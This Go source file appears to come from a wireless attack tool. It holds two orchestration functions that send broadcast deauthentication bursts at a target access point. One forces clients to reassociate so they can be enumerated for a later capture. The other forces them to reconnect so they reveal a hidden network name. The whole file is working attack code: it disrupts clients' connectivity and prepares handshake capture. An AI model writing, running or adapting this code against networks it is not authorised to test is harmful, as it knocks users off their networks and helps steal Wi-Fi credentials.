package engine

import (
	"context"
	"time"
)

// DetectClients runs a client-mode scan against one target for the full
// deadline, concurrently issuing broadcast deauth bursts to provoke
// reassociation traffic. It never exits early on "enough clients found":
// every observed client improves the later capture odds, so the whole
// deadline is always spent. An empty result is valid; the caller proceeds
// to capture regardless.
//
// On interrupt the partial snapshot is returned together with ctx.Err().
func (o *Orchestrator) DetectClients(ctx context.Context, iface string, target Network, deadline time.Duration) ([]Client, error) {
	agg := NewAggregator(ModeClients)

	stream, err := o.tools.Scans.Start(ctx, ScanSpec{
		Interface: iface,
		Kind:      SampleClient,
		BSSID:     target.BSSID,
		Channel:   target.Channel,
	})
	if err != nil {
		return nil, err
	}
	defer stream.Stop()

	dctx, cancel := context.WithTimeout(ctx, deadline)
	defer cancel()

	// No clients are known yet, so bursts go to broadcast.
	pool := newDeauthPool(o.tools.Deauth, o.cfg.DeauthInterval, o.logger)
	pool.start(dctx, iface, target.BSSID, nil)

	done := make(chan struct{})
	go func() {
		defer close(done)
		for s := range stream.Samples() {
			agg.Observe(s)
		}
	}()

	<-dctx.Done()
	pool.stop()
	stream.Stop()
	<-done

	clients := agg.ClientSnapshot()
	if o.vendors != nil {
		for i := range clients {
			clients[i].Vendor = o.vendors(clients[i].MAC)
		}
	}

	o.logger.Info("client detection pass finished",
		"bssid", target.BSSID, "clients", len(clients), "bursts", pool.sent())

	if err := ctx.Err(); err != nil {
		return clients, err
	}
	return clients, nil
}

// decloak attempts to reveal a hidden SSID by running a short targeted
// network-mode scan while deauthing, so reassociating clients expose the
// name. It returns the revealed SSID, or "" when the pass ends without one.
func (o *Orchestrator) decloak(ctx context.Context, iface string, target Network) string {
	agg := NewAggregator(ModeNetworks)

	stream, err := o.tools.Scans.Start(ctx, ScanSpec{
		Interface: iface,
		Kind:      SampleNetwork,
		BSSID:     target.BSSID,
		Channel:   target.Channel,
	})
	if err != nil {
		o.logger.Warn("decloak scan failed to start", "bssid", target.BSSID, "error", err)
		return ""
	}
	defer stream.Stop()

	dctx, cancel := context.WithTimeout(ctx, o.cfg.DecloakDeadline)
	defer cancel()

	pool := newDeauthPool(o.tools.Deauth, o.cfg.DeauthInterval, o.logger)
	pool.start(dctx, iface, target.BSSID, nil)

	done := make(chan struct{})
	go func() {
		defer close(done)
		for s := range stream.Samples() {
			agg.Observe(s)
		}
	}()

	<-dctx.Done()
	pool.stop()
	stream.Stop()
	<-done

	if n, ok := agg.FindByBSSID(target.BSSID); ok && !n.Hidden() {
		return n.SSID
	}
	return ""
}
